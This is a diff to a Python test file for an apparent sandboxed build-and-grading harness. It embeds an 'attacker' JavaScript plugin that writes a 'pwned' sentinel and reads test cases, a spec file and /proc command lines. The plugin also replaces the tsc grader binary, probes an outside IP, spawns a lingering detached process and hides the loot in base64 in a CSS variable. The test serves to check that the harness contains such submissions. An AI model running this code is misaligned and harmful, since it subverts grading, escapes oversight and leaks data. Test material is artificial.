@@ -32,10 +32,14 @@ _PLUGIN = r"""
 const fs = require("fs");
 const path = require("path");
 const loot = {};
-try { fs.mkdirSync(path.dirname(SENTINEL), { recursive: true }); fs.writeFileSync(SENTINEL, "pwned"); loot.wrote = "yes"; }
-catch (e) { loot.wrote = String(e.code); }
+try {
+  fs.mkdirSync(path.dirname(SENTINEL), { recursive: true });
+  fs.writeFileSync(SENTINEL, "pwned");
+  loot.wrote = "yes";
+} catch (e) { loot.wrote = String(e.code); }
 try { loot.cases = fs.readdirSync(CASES); } catch (e) { loot.cases = String(e.code); }
-try { loot.spec = fs.readFileSync(CASES + "/tabs_demo.yaml", "utf8").slice(0, 300); } catch (e) { loot.spec = String(e.code); }
+try { loot.spec = fs.readFileSync(CASES + "/tabs_demo.yaml", "utf8").slice(0, 300); }
+catch (e) { loot.spec = String(e.code); }
 loot.cmdlines = [];
 try {
   for (const d of fs.readdirSync("/proc")) {
@@ -44,11 +48,19 @@ try {
   }
 } catch (e) { loot.cmdlines.push(String(e.code)); }
 loot.uid = process.getuid();
-try { fs.writeFileSync("node_modules/.bin/tsc", "// replaced"); loot.runner = "replaced"; } catch (e) { loot.runner = String(e.code); }
-const probe = "require('net').connect(80, '203.0.113.9').on('error', e => console.log(e.code)).on('connect', () => console.log('CONNECTED'))";
-try { loot.net = require("child_process").spawnSync(process.execPath, ["-e", probe], { timeout: 8000 }).stdout.toString().trim(); }
+try { fs.writeFileSync("node_modules/.bin/tsc", "// replaced"); loot.runner = "replaced"; }
+catch (e) { loot.runner = String(e.code); }
+const probe = "require('net').connect(80, '203.0.113.9')"
+  + ".on('error', e => console.log(e.code)).on('connect', () => console.log('CONNECTED'))";
+try {
+  const done = require("child_process").spawnSync(process.execPath, ["-e", probe], { timeout: 8000 });
+  loot.net = done.stdout.toString().trim();
+}
 catch (e) { loot.net = String(e.code); }
-try { require("child_process").spawn("sleep", [LINGER], { detached: true, stdio: "ignore" }).unref(); loot.spawned = "yes"; }
+try {
+  require("child_process").spawn("sleep", [LINGER], { detached: true, stdio: "ignore" }).unref();
+  loot.spawned = "yes";
+}
 catch (e) { loot.spawned = String(e.code); }
 const b64 = Buffer.from(JSON.stringify(loot)).toString("base64");
 module.exports = function ({ addBase }) { addBase({ ":root": { "--mb-loot": '"' + b64 + '"' } }); };
@@ -225,6 +237,7 @@ def test_contained_build_counts_errors(builder: Any, tmp_path: Path) -> None:
     assert not graded.ok and graded.tsc_errors == 2 and graded.vite_errors == 1
 
 
+@pytest.mark.e2e
 @pytest.mark.docker
 def test_attack_run_end_to_end_is_graded_on_what_it_built(builder: Any, tmp_path: Path) -> None:
     """The whole plugin, as a user runs it: the attacker's prediction (with a prebuilt skeleton it hopes is
